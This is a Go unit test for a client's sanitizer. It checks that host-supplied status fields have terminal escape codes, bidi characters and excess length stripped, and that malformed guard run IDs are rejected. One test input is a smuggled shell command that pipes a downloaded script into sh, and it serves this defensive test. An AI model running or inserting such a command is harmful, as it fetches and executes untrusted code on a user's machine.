package ummclient

import (
	"strings"
	"testing"

	"umm/internal/api"
)

// A host may say anything: nothing of it reaches a terminal that obeys it, or a command that
// people are told to type.
func TestSanitized(t *testing.T) {
	evil := "a\x1b[2J\u202e\n" + strings.Repeat("x", 20<<20)
	st := sanitized(api.Status{Mode: evil, BootID: evil, FailedUnits: make([]string, 5000), Reboot: &api.Reboot{Needed: evil, Reasons: []string{evil}, Unknown: []string{evil}}, Problems: []string{evil}, Trigger: &api.Trigger{Reason: evil, Run: evil},
		Command: &api.Command{Error: evil, State: evil, LastLines: append(make([]string, 5000), evil)}, Guard: &api.Guard{Run: "20261123-092114-3f2a", Reason: evil}})
	for _, s := range []string{st.Mode, st.BootID, st.Problems[0], st.Trigger.Reason, st.Trigger.Run, st.Command.Error, st.Command.State, st.Guard.Reason, st.Reboot.Needed, st.Reboot.Reasons[0], st.Reboot.Unknown[0]} {
		if len(s) > mostText || !strings.HasPrefix(s, "a [2J x") {
			t.Errorf("%.30q", s)
		}
	}
	if lines := st.Command.LastLines; len(lines) != mostLines || len(lines[mostLines-1]) > mostLine || !strings.HasPrefix(lines[mostLines-1], "a [2J x") {
		t.Errorf("%.300q", lines)
	}
	if len(st.FailedUnits) != mostTexts {
		t.Errorf("%d units", len(st.FailedUnits))
	}
	for _, id := range []string{"x; curl http://a | sh", "", "-x", strings.Repeat("r", 65)} {
		if st := sanitized(api.Status{Guard: &api.Guard{Run: id}}); st.Guard != nil || len(st.Problems) != 1 || !strings.Contains(st.Problems[0], "its guard names no run") {
			t.Errorf("%q: %+v", id, st)
		}
	}
	if got := line("umm: \x1b[2Jno\numm: hint"); got != " [2Jno" && got != "[2Jno" {
		t.Errorf("%q", got)
	}
}
